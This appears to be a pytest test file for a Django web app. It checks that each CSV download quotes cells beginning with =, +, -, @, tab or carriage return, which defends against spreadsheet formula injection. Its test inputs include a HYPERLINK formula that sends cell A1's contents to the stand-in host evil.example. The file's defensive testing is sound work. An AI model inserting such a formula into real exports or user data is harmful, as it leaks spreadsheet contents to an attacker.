"""Every CSV download writes typed text so that a spreadsheet shows it as text, never runs
it as a formula (issue 11 §4; OWASP "CSV Injection"): a cell starting with =, +, -, @, a
tab or a carriage return comes out prefixed with a single quote. One test per download,
each through its page as the person who downloads it."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from openepa.certificates.models import ExportBatch
from openepa.domain.bulk_registration import COLUMNS, EXAMPLE_ROW, HEADINGS
from openepa.domain.csvsafe import FORMULA_STARTS
from openepa.enrolments.models import BulkUpload
from tests.certificates.helpers import released, with_address
from tests.results.builders import submit

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1",
    "-1",
    "@x",
    "\tx",
    "\rx",
]


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_bulk_registration_errors_csv_quotes_formula_cells(client, world):
    rows = [
        {**EXAMPLE_ROW, "uln": text, "given_name": text, "employer": world.employer.name}
        for text in HOSTILE
    ]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(COLUMNS))
    writer.writeheader()
    writer.writerows(rows)
    client.force_login(world.provider_user)
    client.post(
        "/enrolments/bulk",
        {
            "file": SimpleUploadedFile("a.csv", out.getvalue().encode(), content_type="text/csv"),
            "epao": world.epao.pk,
            "mode": "check_only",
        },
    )
    bulk = BulkUpload.objects.get()
    lines = rows_of(client.get(f"/enrolments/bulk/{bulk.pk}/errors.csv"))
    uln_problems = [line for line in lines[1:] if line[3] == HEADINGS["uln"]]
    # The upload trims spaces, tabs and line ends around each cell, so those two arrive
    # trimmed; the others come out quoted.
    typed = [t if t[0] in "\t\r" else "'" + t for t in HOSTILE]
    assert [(line[1], line[2]) for line in uln_problems] == [
        (t.strip(), f"{t.strip()} Hopper") for t in typed
    ]
    assert not any(cell.startswith(FORMULA_STARTS) for line in lines for cell in line)


def test_the_template_csv_is_written_by_the_same_writer(client, world):
    client.force_login(world.provider_user)
    lines = rows_of(client.get("/enrolments/bulk/template.csv"))
    assert lines == [[HEADINGS[c] for c in COLUMNS], [EXAMPLE_ROW[c] for c in COLUMNS]]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_consistency_report_csv_quotes_a_formula_in_a_name(client, world, text):
    world.assessor.full_name = text
    world.assessor.save(update_fields=["full_name"])
    for i in range(3):
        submit(
            world.enrolment,
            "showcase",
            on=date(2026, 10, 1) + timedelta(days=i),
            grade="pass",
            assessor=world.assessor,
        )
    client.force_login(world.iqa)
    lines = rows_of(client.get("/assessors/consistency.csv"))
    assessors = {line[1] for line in lines[1:]}
    assert f"'{text}" in assessors
    assert not any(cell.startswith(FORMULA_STARTS) for line in lines for cell in line)


@pytest.mark.parametrize("text", ["=1+1", "@x", "-1"])
def test_the_certificate_export_csv_quotes_a_formula_in_a_name(client, world, text):
    apprentice = world.enrolment.apprentice
    apprentice.family_name = text
    apprentice.save(update_fields=["family_name"])
    with_address(world.employer)
    released(world, world.enrolment, "pass", start=date(2026, 3, 2))
    client.force_login(world.admin)
    client.post("/certificates/export/", {"epao": world.epao.pk})
    batch = ExportBatch.objects.get(kind="certificate")
    response = client.get(f"/certificates/batches/{batch.pk}.csv")
    (row,) = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
    assert row["learner.familyName"] == "'" + text
